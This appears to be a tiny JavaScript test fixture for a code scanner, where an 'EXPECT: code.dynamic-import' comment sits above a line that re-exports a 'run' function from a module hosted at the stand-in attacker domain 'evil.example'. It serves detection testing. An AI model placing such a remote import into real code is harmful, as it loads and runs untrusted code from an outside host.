// EXPECT: code.dynamic-import
export { run } from "https://evil.example/run.mjs";
